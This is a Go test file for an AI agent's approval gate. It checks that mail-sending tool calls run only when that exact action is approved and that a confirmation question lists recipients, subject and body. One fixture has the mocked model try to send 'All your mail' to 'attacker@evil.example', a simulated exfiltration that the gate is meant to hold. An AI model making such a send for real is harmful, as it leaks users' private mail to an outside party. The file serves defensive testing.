package agent_test

import (
	"context"
	"encoding/json"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/sova-ai/sova/internal/agent"
	"github.com/sova-ai/sova/internal/llm"
	"github.com/sova-ai/sova/internal/llm/llmtest"
)

type sendArgs struct {
	To      string `json:"to"`
	Subject string `json:"subject"`
	Body    string `json:"body"`
}

// acting is a send tool that counts the calls that reached it.
type acting struct {
	agent.Tool
	sent *atomic.Int32
}

func (acting) Acts() bool { return true }

func newSend() (agent.Tool, *atomic.Int32) {
	var n atomic.Int32
	t := agent.NewTool("send", "Sends mail.", func(context.Context, sendArgs) (agent.Output, error) {
		n.Add(1)
		return agent.Text("sent"), nil
	})
	return acting{Tool: t, sent: &n}, &n
}

// An acting call runs only when the gate allows that exact action; a loop
// without a gate runs none; a held call is listed with a stable id.
func TestGateHoldsActingCalls(t *testing.T) {
	args := `{"to":"attacker@evil.example","subject":"Summary","body":"All your mail"}`
	approvedID := agent.ActionID("send", json.RawMessage(`{"body":"All your mail", "subject":"Summary","to":"attacker@evil.example"}`))
	tests := []struct {
		name string
		gate *agent.Gate
		sent int32
		held int
	}{
		{"no gate", nil, 0, 0},
		{"nothing approved", &agent.Gate{}, 0, 1},
		{"another action approved", &agent.Gate{Allow: func(a agent.Action) bool { return a.ID == "act_0000000000000000" }}, 0, 1},
		{"this action approved", &agent.Gate{Allow: func(a agent.Action) bool { return a.ID == approvedID }}, 1, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := llmtest.New(t)
			srv.Enqueue(llmtest.Calls(llm.ToolCall{ID: "c1", Name: "send", Arguments: args}), llmtest.Text("done"))
			c, err := llm.New(llm.Config{BaseURL: srv.URL(), Model: "m", MaxRetries: -1})
			if err != nil {
				t.Fatal(err)
			}
			send, n := newSend()
			out, err := agent.Run(t.Context(), agent.Config{Model: c, Tools: []agent.Tool{send}, Gate: tt.gate, MaxIdle: 1}, []llm.Message{{Role: llm.RoleUser, Content: "go"}})
			if err != nil {
				t.Fatal(err)
			}
			if n.Load() != tt.sent {
				t.Fatalf("sent %d, want %d", n.Load(), tt.sent)
			}
			held := tt.gate.Held()
			if len(held) != tt.held {
				t.Fatalf("held %+v", held)
			}
			if tt.held > 0 {
				h := held[0]
				if h.ID != approvedID || h.CallID != "c1" || h.View.Recipients[0] != "attacker@evil.example" || h.View.Subject != "Summary" || h.View.Excerpt != "All your mail" {
					t.Errorf("held action %+v", h)
				}
				if out.End != agent.EndTool || !strings.Contains(out.Results()[0].Output, "Held") {
					t.Errorf("a held call did not end the loop: %s %+v", out.End, out.Results())
				}
			}
		})
	}
}

func TestQuestionIsBuiltFromTheActions(t *testing.T) {
	a := agent.NewAction("c1", "office__send_email", "office: send_email", json.RawMessage(`{"to":["anna@example.com",{"email":"boss@example.com"}],"subject":"Восток","body":"Согласен на вторник."}`))
	ru := agent.Question("ru", []agent.Action{a})
	for _, want := range []string{"anna@example.com, boss@example.com", "«Восток»", "Согласен на вторник.", "да"} {
		if !strings.Contains(ru, want) {
			t.Errorf("ru question lacks %q:\n%s", want, ru)
		}
	}
	if en := agent.Question("de", []agent.Action{a}); !strings.Contains(en, "Go ahead?") || !strings.Contains(en, "to: anna@example.com") {
		t.Errorf("fallback question:\n%s", en)
	}
}
